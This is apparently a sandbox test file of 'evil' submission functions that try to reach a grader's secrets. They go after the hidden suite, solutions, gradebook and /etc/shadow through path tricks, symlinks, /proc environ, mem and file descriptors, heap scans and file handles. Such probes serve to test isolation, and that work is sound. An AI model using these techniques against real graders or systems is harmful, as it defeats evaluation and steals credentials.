"""Reading secrets: by path, through /proc, through inherited resources, and in memory."""

# %% hidden suite by path
def evil(x):
    return read(SECRETS["hidden"])


# %% solution by path
def evil(x):
    return read(SECRETS["solution"])


# %% gradebook by path
def evil(x):
    return read(SECRETS["gradebook"])


# %% another submission by path
def evil(x):
    return read(SECRETS["other"])


# %% a file for root alone
def evil(x):
    return claim(b":" in read("/etc/shadow"))


# %% a secret with a detour
def evil(x):
    return read("/usr/lib/../.." + SECRETS["hidden"])


# %% a secret as a module
def evil(x):
    from importlib.machinery import SourceFileLoader

    return SourceFileLoader("stolen", SECRETS["solution"]).get_data(SECRETS["solution"])


# %% a secret through a link of one's own
def evil(x):
    for folder in (".", "/box", "/tmp", LOOT):
        try:
            os.symlink(SECRETS["hidden"], f"{folder}/link-{NONCE}")
            return read(f"{folder}/link-{NONCE}")
        except OSError:
            pass
    return read(SECRETS["hidden"])


# %% a secret by a descriptor opened for its path only
def evil(x):
    handle = os.open(SECRETS["gradebook"], os.O_PATH)
    return read(f"/proc/self/fd/{handle}")


# %% a secret mapped into memory
def evil(x):
    return bytes(np.memmap(SECRETS["hidden"], dtype=np.uint8, mode="r"))


# %% the folder of secrets listed
def evil(x):
    return os.listdir(os.path.dirname(SECRETS["hidden"]))


# %% everything found from the root
def evil(x):
    for folder, below, files in os.walk("/"):
        if folder.count("/") > 3 or folder.startswith(("/sys", "/usr", "/proc", "/root")):
            below.clear()
        for name in files:
            if name == "hidden_suite.py":
                return read(os.path.join(folder, name))


# %% environment of the grader
def evil(x):
    return read(f"/proc/{GRADER}/environ")


# %% environment of this process
def evil(x):
    return dict(os.environ), first(lambda: read("/proc/self/environ"))


# %% environment of the parent
def evil(x):
    return first(lambda: read(f"/proc/{os.getppid()}/environ"), lambda: read("/proc/1/environ"))


# %% memory of the grader
def evil(x):
    with open(f"/proc/{GRADER}/mem", "rb", buffering=0) as file:
        file.seek(TOKEN_ADDRESS)
        return file.read(TOKEN_LENGTH)


# %% open files of the grader
def evil(x):
    found = []
    for name in os.listdir(f"/proc/{GRADER}/fd"):
        try:
            if "gradebook" in os.readlink(f"/proc/{GRADER}/fd/{name}"):
                found.append(read(f"/proc/{GRADER}/fd/{name}"))
        except OSError:
            pass
    return found


# %% inherited descriptors
def evil(x):
    found = []
    for number in range(4, 300):
        try:
            found.append(os.pread(number, 1 << 16, 0))
        except OSError:
            pass
    return found


# %% the grader's file system through /proc
def evil(x):
    return first(*(lambda pid=pid: read(f"/proc/{pid}/root{SECRETS['hidden']}") for pid in (GRADER, ZYGOTE, 1)))


# %% every object of the heap
def evil(x):
    import gc

    texts = [o for o in gc.get_objects() if isinstance(o, dict)]
    return [v for d in texts for v in list(d.values()) if isinstance(v, (str, bytes)) and "SECRET" in str(v)][:50]


# %% every page of the heap
def evil(x):
    found = []
    for line in open("/proc/self/maps"):
        span, mode = line.split()[:2]
        if "r" in mode and ("heap" in line or len(line.split()) < 6):
            low, high = (int(part, 16) for part in span.split("-"))
            data = ctypes.string_at(low, min(high - low, 64 << 20))
            at = data.find(b"SECRET-heap")
            found += [data[at : at + 80]] if at >= 0 else []
    return found


# %% locals of the callers
def evil(x):
    frame, found = sys._getframe(), []
    while frame:
        found.append(repr(frame.f_locals)[:100_000])
        frame = frame.f_back
    return "".join(found)


# %% the address the grader gave away
def evil(x):
    return ctypes.string_at(TOKEN_ADDRESS, TOKEN_LENGTH)


# %% a handle in place of a path
def evil(x):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, SECRETS["hidden"].encode(), handle, ctypes.byref(mount), 0)
    folder = os.open("/", os.O_RDONLY)
    opened = call("open_by_handle_at", folder, handle, os.O_RDONLY)
    return os.read(opened, 1000) if opened >= 0 else "held"
